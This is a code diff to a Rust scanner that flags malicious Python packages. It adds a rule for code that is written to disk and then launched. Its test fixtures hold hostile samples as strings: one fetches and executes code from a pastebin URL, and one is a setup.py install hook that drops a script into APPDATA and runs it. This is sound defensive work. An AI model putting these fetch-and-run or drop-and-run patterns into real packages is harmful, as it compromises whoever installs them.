@@ -1,4 +1,5 @@
 use super::vocab;
+use crate::inspect::python::Sink;
 use crate::declare_rule;
 use crate::inspect::rules::{Rule, RuleMeta};
 use crate::inspect::{Analysis, Finding, Severity, Stage};
@@ -37,6 +38,10 @@ impl Rule for DownloadExecute {
     fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
         for unit in analysis.units() {
             let code = unit.code;
+            if let Some(f) = drop_and_run(&unit) {
+                out.push(f);
+                continue;
+            }
             let Some(download) = code.calls.iter().find(|c| vocab::is_download(&c.name)) else { continue };
             // exec(requests.get(...).text) and friends.
             let direct = code.calls.iter().find(|c| vocab::is_exec(&c.name) && c.arg_refs.iter().any(|r| vocab::is_network(r)));
@@ -65,6 +70,24 @@ impl Rule for DownloadExecute {
     }
 }
 
+/// Code written to disk from a string or decoded blob, then launched by the same unit.
+fn drop_and_run(unit: &crate::inspect::Unit) -> Option<Finding> {
+    let code = unit.code;
+    let dropped = code.payloads.iter().find(|p| p.sink == Sink::Write && p.code.is_some())?;
+    let launch = code.calls.iter().find(|c| {
+        (vocab::is_shell(&c.name) || c.name == "os.startfile")
+            && (c.arg_refs.iter().any(|r| r == "sys.executable") || c.arg_strs.iter().any(|s| vocab::dangerous_command(s).is_some()))
+    })?;
+    let stage = dropped.stage.max(launch.stage);
+    let severity = match stage {
+        Stage::Install | Stage::Import => Severity::Critical,
+        Stage::Call => Severity::High,
+        Stage::Auxiliary => Severity::Low,
+    };
+    let message = format!("writes embedded Python code to disk and runs it with {}() {}", launch.name, stage.describe());
+    Some(unit.finding(DownloadExecute::META.id, severity, launch.line, message))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -84,6 +107,13 @@ mod tests {
             &[("pkg/__init__.py", "import requests\nexec(requests.get('https://pastebin.com/raw/abc').text)\n")],
         );
         assert_eq!((f.len(), f[0].severity), (1, Severity::Critical));
+    }
+
+    #[test]
+    fn fires_on_dropped_code() {
+        let src = "import os, sys\nclass I:\n    def run(self):\n        content = '''\nimport os\nos.system('whoami')\n'''\n        p = os.path.join(os.getenv('APPDATA'), 'x.py')\n        with open(p, 'w') as f:\n            f.write(content)\n        os.system(sys.executable + ' ' + p)\n";
+        let f = setup_py(&DownloadExecute, src);
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
     }
 
     #[test]
